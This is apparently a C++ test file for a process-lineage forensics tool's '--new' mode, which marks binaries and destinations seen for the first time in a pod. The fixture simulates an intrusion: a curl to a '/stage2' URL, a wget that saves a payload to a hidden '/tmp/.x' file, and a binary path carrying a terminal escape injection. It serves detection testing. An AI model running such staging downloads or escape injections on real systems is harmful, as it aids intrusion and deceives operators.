// reconstruct --new: binaries and destinations never seen before in their
// pod, in the journals' whole span. Goldens (testdata/golden/new_pod.*) and
// the rules behind them: an earlier exec in another pod or on the host does
// not count, folding never hides a new process, hostile bytes stay escaped,
// and without --new nothing changes.

#include <catch2/catch.hpp>

#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "fixture_journal.h"
#include "fold.h"
#include "newness.h"
#include "reconstruct.h"

namespace test_new {

using namespace fixture;
using nlohmann::json;

namespace {

const std::string kPodA = "3f2a1b0c-9d8e-4f7a-8b6c-5d4e3f2a1b0c";
const std::string kPodAName = "checkout-5c7d8-q9w2e";
const std::string kPodB = "8e7d6c5b-4a39-4281-9f0e-1d2c3b4a5968";
const std::string kContainerA = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";
const std::string kContainerB = "beef0000beef0000beef0000beef0000beef0000beef0000beef0000beef0000";
const std::string kSince = "2026-04-22T09:01:00Z";
const std::string kUntil = "2026-04-22T09:02:00Z";
const std::string kHostile = "/tmp/.x\x1b]0;pwned\x07\xff";  // an OSC title escape and a byte that is not UTF-8

struct Options {
    bool wget_in_pod_before = false;  // pod A itself ran wget before the window
};

// Pod A (payments/checkout-...), 09:00:00 to 09:02:00, window 09:01-09:02:
//   before the window: its init sh, a `sleep 10` loop, curl to 10.0.0.5:80;
//   pod B ran wget and connected to 203.0.113.9:443, and the host ran
//   /usr/local/bin/probe, all before the window: none of that is pod A's.
//   In the window: more sleeps and the health curl (seen before), then
//   /usr/local/bin/probe 4 times (the first NEW, the others fold), curl to
//   203.0.113.9:443 (curl seen before, the destination NEW), wget twice (the
//   first NEW with its destination, the second seen before) and a binary
//   with hostile bytes in its path (NEW).
FixtureJournal new_fixture(Options opt = {}) {
    FixtureJournal fx;
    const std::string cg_a = pod_cgroup(kPodA, kContainerA);
    const std::string cg_b = pod_cgroup(kPodB, kContainerB);
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, "/init.scope");
    Proc shim = fx.snapshot(40000, 1, at(940, 700'000'000), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                            {"/usr/bin/containerd-shim-runc-v2"}, "/system.slice/containerd.service");
    fx.pod(kPodA, kPodAName, "payments", "log-dir");
    fx.pod(kPodB, "other-7f8e9-a1b2c", "payments", "log-dir");

    // Pod B and the host, before the window.
    Proc b = FixtureJournal::proc(41000, at(1000, 100'000'000));
    fx.fork(shim, b, at(1000, 100'000'000));
    fx.exec(b, "/usr/bin/wget", {"wget", "-q", "https://203.0.113.9/"}, at(1000, 110'000'000), cg_b, "other", 1);
    fx.connect(b, "203.0.113.9", 443, at(1000, 120'000'000));
    fx.exit(b, at(1000, 200'000'000), 0);
    Proc host = FixtureJournal::proc(42000, at(1005, 0));
    fx.fork(shim, host, at(1005, 0));
    ExecOpts on_host;
    on_host.cgroup = "/system.slice";
    fx.exec(host, "/usr/local/bin/probe", {"probe"}, at(1005, 1'000'000), on_host);
    fx.exit(host, at(1005, 5'000'000), 0);

    // Pod A's init and what it ran before the window.
    Proc init = FixtureJournal::proc(40100, at(1001, 0));
    fx.fork(shim, init, at(1001, 0));
    fx.exec(init, "/bin/sh", {"sh", "/app/run.sh"}, at(1001, 10'000'000), cg_a, kPodAName, 1);
    uint32_t pid = 40101;
    auto sleep_at = [&](uint64_t t) {
        Proc s = FixtureJournal::proc(pid++, t);
        fx.fork(init, s, t);
        fx.exec(s, "/bin/sleep", {"sleep", "10"}, t + 1'000'000);
        fx.exit(s, t + 9'000'000'000, 0);
    };
    auto health_at = [&](uint64_t t) {
        Proc c = FixtureJournal::proc(pid++, t);
        fx.fork(init, c, t);
        fx.exec(c, "/usr/bin/curl", {"curl", "-s", "http://10.0.0.5/health"}, t + 1'000'000);
        fx.connect(c, "10.0.0.5", 80, t + 2'000'000);
        fx.exit(c, t + 3'000'000, 0);
    };
    sleep_at(at(1010));
    health_at(at(1020, 500'000'000));
    if (opt.wget_in_pod_before) {
        Proc w = FixtureJournal::proc(pid++, at(1030));
        fx.fork(init, w, at(1030));
        fx.exec(w, "/usr/bin/wget", {"wget", "--version"}, at(1030, 1'000'000));
        fx.exit(w, at(1030, 2'000'000), 0);
    }

    // The window.
    sleep_at(at(1060, 100'000'000));
    health_at(at(1061, 0));
    for (int k = 0; k < 4; ++k) {
        Proc p = FixtureJournal::proc(pid++, at(1062 + k));
        fx.fork(init, p, at(1062 + k));
        fx.exec(p, "/usr/local/bin/probe", {"probe"}, at(1062 + k, 1'000'000));
        fx.exit(p, at(1062 + k, 2'000'000), 0);
    }
    Proc c = FixtureJournal::proc(pid++, at(1070));
    fx.fork(init, c, at(1070));
    fx.exec(c, "/usr/bin/curl", {"curl", "-s", "https://203.0.113.9/stage2"}, at(1070, 1'000'000));
    fx.connect(c, "203.0.113.9", 443, at(1070, 2'000'000));
    fx.exit(c, at(1070, 3'000'000), 0);
    for (int k = 0; k < 2; ++k) {
        Proc w = FixtureJournal::proc(pid++, at(1075 + k));
        fx.fork(init, w, at(1075 + k));
        fx.exec(w, "/usr/bin/wget", {"wget", "-O", "/tmp/.x", "http://203.0.113.9/x"}, at(1075 + k, 1'000'000));
        fx.connect(w, "203.0.113.9", 80, at(1075 + k, 2'000'000));
        fx.exit(w, at(1075 + k, 3'000'000), 0);
    }
    Proc x = FixtureJournal::proc(pid++, at(1080));
    fx.fork(init, x, at(1080));
    fx.exec(x, kHostile, {"x"}, at(1080, 1'000'000));
    fx.exit(x, at(1080, 2'000'000), 0);
    return fx;
}

struct NewCase {
    TempDir dir;
    explicit NewCase(Options opt = {}) { new_fixture(opt).write(dir / "new.db"); }
    RunResult run(std::vector<std::string> extra) const {
        std::vector<std::string> a{"reconstruct", "--journal", "new.db", "--since", kSince,
                                   "--until",     kUntil,      "--pod",  kPodAName};
        a.insert(a.end(), extra.begin(), extra.end());
        return run_lineage(a, dir.path());
    }
};

std::vector<json> nodes_of(const json& doc) {
    std::vector<json> out, todo;
    for (const auto& t : doc.at("trees")) todo.push_back(t);
    while (!todo.empty()) {
        json n = todo.back();
        todo.pop_back();
        for (const auto& c : n.at("children")) todo.push_back(c);
        out.push_back(std::move(n));
    }
    return out;
}

// The nodes whose last image's binary is `binary`, oldest first.
std::vector<json> nodes_running(const json& doc, const std::string& binary) {
    std::vector<json> out;
    for (const auto& n : nodes_of(doc)) {
        if (!n.at("execs").empty() && n.at("execs").back().at("binary") == binary) out.push_back(n);
    }
    std::sort(out.begin(), out.end(),
              [](const json& a, const json& b) { return a.at("start_time").get<std::string>() < b.at("start_time"); });
    return out;
}

}  // namespace

TEST_CASE("reconstruct --new: first binaries and destinations of a pod, text and JSON goldens", "[reconstruct][new]") {
    NewCase c;
    RunResult text = c.run({"--new", "--color", "never"});
    INFO(text.err);
    REQUIRE(text.status == 0);
    CHECK(golden_mismatch("new_pod.txt", text.out) == "");
    RunResult js = c.run({"--new", "--format", "json"});
    REQUIRE(js.status == 0);
    CHECK(golden_mismatch("new_pod.json", js.out) == "");

    const json doc = json::parse(js.out);
    CHECK(doc.at("new_since").at("time") == "2026-04-22T08:59:10.000000000Z");
    CHECK(doc.at("new_since").at("pruned") == false);
    // Seen before the window, in this pod: not new.
    for (const char* seen : {"/bin/sleep", "/usr/bin/curl"}) {
        for (const auto& n : nodes_running(doc, seen)) {
            INFO(seen << " " << n.at("pid"));
            CHECK(n.at("execs").back().at("new") == false);
        }
    }
    // Only the first of each is new: the probe, wget and its destination.
    const auto probes = nodes_running(doc, "/usr/local/bin/probe");
    REQUIRE(probes.size() == 4);
    CHECK(probes[0].at("new") == true);
    for (size_t k = 1; k < probes.size(); ++k) CHECK(probes[k].at("new") == false);
    const auto wgets = nodes_running(doc, "/usr/bin/wget");
    REQUIRE(wgets.size() == 2);
    CHECK(wgets[0].at("new") == true);
    CHECK(wgets[0].at("connects").at(0).at("new") == true);
    CHECK(wgets[1].at("new") == false);
    CHECK(wgets[1].at("connects").at(0).at("new") == false);
    // curl was seen, its new destination makes it worth a look; the health
    // check's destination was seen.
    const auto curls = nodes_running(doc, "/usr/bin/curl");
    REQUIRE(curls.size() == 2);
    CHECK(curls[0].at("connects").at(0).at("new") == false);
    CHECK(curls[1].at("connects").at(0).at("daddr") == "203.0.113.9");
    CHECK(curls[1].at("connects").at(0).at("new") == true);
    CHECK(curls[1].at("new") == true);
}

TEST_CASE("reconstruct --new: an exec before the window in another pod, or on the host, does not un-new a binary",
          "[reconstruct][new]") {
    SECTION("pod B's wget and the host's probe ran before; pod A's first ones are new") {
        NewCase c;
        RunResult r = c.run({"--new", "--format", "json"});
        REQUIRE(r.status == 0);
        const json doc = json::parse(r.out);
        CHECK(nodes_running(doc, "/usr/bin/wget").at(0).at("execs").at(0).at("new") == true);
        CHECK(nodes_running(doc, "/usr/local/bin/probe").at(0).at("execs").at(0).at("new") == true);
        // Pod B connected to 203.0.113.9:443 before pod A did.
        CHECK(nodes_running(doc, "/usr/bin/curl").at(1).at("connects").at(0).at("new") == true);
    }
    SECTION("the same pod ran wget before the window: not new") {
        Options opt;
        opt.wget_in_pod_before = true;
        NewCase c(opt);
        RunResult r = c.run({"--new", "--format", "json"});
        REQUIRE(r.status == 0);
        const json doc = json::parse(r.out);
        CHECK(nodes_running(doc, "/usr/bin/wget").at(0).at("execs").at(0).at("new") == false);
        // Its destination is still the pod's first.
        CHECK(nodes_running(doc, "/usr/bin/wget").at(0).at("connects").at(0).at("new") == true);
    }
}

TEST_CASE("reconstruct --new: folding keeps a new process on a line of its own", "[reconstruct][new][fold]") {
    lineage::Model model = new_fixture().build_model();
    lineage::Query q;
    q.pod = kPodAName;
    lineage::Report report = lineage::build_report(model, q);
    REQUIRE(report.trees.size() == 1);
    const lineage::Tree& before = report.trees[0];
    // Without --new the four probes are one shape: one line, three hidden.
    auto probe_nodes = [](const lineage::Tree& t) {
        std::vector<uint32_t> out;
        for (uint32_t i = 0; i < t.nodes.size(); ++i) {
            const auto& execs = t.nodes[i].process->execs;
            if (!execs.empty() && execs.back().binary == "/usr/local/bin/probe") out.push_back(i);
        }
        return out;
    };
    const auto probes = probe_nodes(before);
    REQUIRE(probes.size() == 4);
    const lineage::FoldPlan plain = lineage::plan_folds(before, lineage::FoldOptions{});
    CHECK(plain.repeat_at[probes[0]] != lineage::kNoFold);

    // The journal lookup's part is replaced by nothing found earlier.
    lineage::mark_new(model, lineage::Precedents{}, report);
    const lineage::Tree& tree = report.trees[0];
    REQUIRE(tree.nodes[probes[0]].is_new());
    const lineage::FoldPlan plan = lineage::plan_folds(tree, lineage::FoldOptions{});
    CHECK_FALSE(plan.hidden[probes[0]]);
    CHECK(plan.repeat_at[probes[0]] == lineage::kNoFold);
    // The three that are not new still fold, at the place of the oldest.
    CHECK(plan.repeat_at[probes[1]] != lineage::kNoFold);
    CHECK(plan.repeats[plan.repeat_at[probes[1]]].members.size() == 3);
    // No new process is ever counted in a fold line.
    for (uint32_t i = 0; i < tree.nodes.size(); ++i) {
        if (!tree.nodes[i].is_new()) continue;
        INFO("node " << i);
        CHECK_FALSE(plan.hidden[i]);
        CHECK(plan.repeat_at[i] == lineage::kNoFold);
        CHECK(plan.chain_at[i] == lineage::kNoFold);
    }
}

TEST_CASE("reconstruct --new: hostile bytes in a binary path are escaped, and JSON stays valid", "[reconstruct][new]") {
    NewCase c;
    RunResult text = c.run({"--new", "--color", "always"});
    REQUIRE(text.status == 0);
    // The path's own escape never reaches the terminal; the marker is ours.
    CHECK(text.out.find("\x1b]0;") == std::string::npos);
    CHECK(text.out.find("\x07") == std::string::npos);
    CHECK(text.out.find("NEW\x1b[0;1m [/tmp/.x\\x1b]0;pwned\\x07\\xff] x") != std::string::npos);
    RunResult js = c.run({"--new", "--format", "json"});
    REQUIRE(js.status == 0);
    const json doc = json::parse(js.out);  // throws on invalid UTF-8
    bool found = false;
    for (const auto& n : nodes_of(doc)) {
        if (n.at("execs").empty() || !n.at("execs").back().contains("raw_b64")) continue;
        found = true;
        CHECK(n.at("new") == true);
        CHECK(n.at("execs").back().at("new") == true);
    }
    CHECK(found);
}

TEST_CASE("reconstruct --new: no colour on a pipe, and without --new the output is as before", "[reconstruct][new]") {
    NewCase c;
    RunResult plain = c.run({});
    RunResult marked = c.run({"--new"});
    REQUIRE(plain.status == 0);
    REQUIRE(marked.status == 0);
    CHECK(plain.out.find("NEW") == std::string::npos);
    CHECK(plain.out.find("new:") == std::string::npos);
    CHECK(marked.out.find("\x1b[") == std::string::npos);  // stdout is a pipe
    CHECK(marked.out.find("NEW ") != std::string::npos);
    RunResult js = c.run({"--format", "json"});
    CHECK(js.out.find("\"new\":") == std::string::npos);
    CHECK(js.out.find("\"new_since\"") == std::string::npos);
}

TEST_CASE("timeline --new marks the same execs and connects as reconstruct --new", "[reconstruct][new][triage]") {
    NewCase c;
    auto timeline = [&](std::vector<std::string> extra) {
        std::vector<std::string> a{"timeline", "--journal", "new.db", "--since", kSince,
                                   "--until",  kUntil,      "--pod",  kPodAName};
        a.insert(a.end(), extra.begin(), extra.end());
        return run_lineage(a, c.dir.path());
    };
    RunResult text = timeline({"--new", "--color", "never"});
    REQUIRE(text.status == 0);
    CHECK(text.out.rfind("new: first in its pod since 2026-04-22T08:59:10.000000000Z", 0) == 0);
    std::vector<std::string> marked;
    std::istringstream lines(text.out);
    for (std::string l; std::getline(lines, l);) {
        if (l.find("  NEW ") != std::string::npos) marked.push_back(l);
    }
    // The first probe, the first wget and its destination, curl's new
    // destination and the hostile binary; the init's exec is before the window.
    CHECK(text.out.find("\x1b") == std::string::npos);
    REQUIRE(marked.size() == 5);
    CHECK(marked[0].find("exec") != std::string::npos);
    CHECK(marked[0].find("NEW probe") != std::string::npos);
    CHECK(marked[1].find("NEW curl → 203.0.113.9:443") != std::string::npos);
    CHECK(marked[2].find("NEW wget -O /tmp/.x") != std::string::npos);
    CHECK(marked[3].find("NEW wget → 203.0.113.9:80") != std::string::npos);
    CHECK(marked[4].find("NEW [/tmp/.x\\x1b]0;pwned\\x07\\xff]") == std::string::npos);  // argv shown, not the path
    CHECK(marked[4].find("NEW x") != std::string::npos);

    RunResult jl = timeline({"--new", "--format", "jsonl"});
    REQUIRE(jl.status == 0);
    CHECK(jl.err.find("new: first in its pod since") != std::string::npos);
    size_t fresh = 0, seen = 0;
    std::istringstream jlines(jl.out);
    for (std::string l; std::getline(jlines, l);) {
        const json obj = json::parse(l);
        const std::string event = obj.at("event");
        CHECK(obj.contains("new") == (event == "exec" || event == "connect" || event == "snapshot"));
        if (obj.contains("new") && obj.at("new") == true) ++fresh;
        if (obj.contains("new") && obj.at("new") == false) ++seen;
    }
    CHECK(fresh == 5);
    CHECK(seen > 5);
    RunResult plain = timeline({"--format", "jsonl"});
    CHECK(plain.out.find("\"new\"") == std::string::npos);
}

TEST_CASE("reconstruct --new: an image whose binary is not known is not compared", "[reconstruct][new]") {
    FixtureJournal fx;
    // /proc's exe is unreadable without CAP_SYS_PTRACE: the snapshot says "".
    Proc blind = fx.snapshot(500, 1, at(900, 0), "daemon", "", {"daemon", "--serve"}, "/system.slice");
    Proc seen = fx.snapshot(501, 1, at(900, 0), "agent", "/usr/sbin/agent", {"agent"}, "/system.slice");
    fx.exit(blind, at(1000), 0);
    fx.exit(seen, at(1000), 0);
    lineage::Model model = fx.build_model();
    lineage::Report report = lineage::build_report(model, lineage::Query{});
    CHECK(lineage::precedent_query(model, report).binaries.count(lineage::BinaryKey{"", ""}) == 0);
    lineage::mark_new(model, lineage::Precedents{}, report);
    size_t checked = 0;
    for (const auto& tree : report.trees) {
        for (const auto& node : tree.nodes) {
            const auto& p = *node.process;
            if (p.tgid != 500 && p.tgid != 501) continue;
            REQUIRE(node.new_images.size() == 1);
            CHECK(node.new_images[0] == (p.tgid == 500 ? lineage::Newness::not_compared : lineage::Newness::first));
            ++checked;
        }
    }
    CHECK(checked == 2);
}

}  // namespace test_new
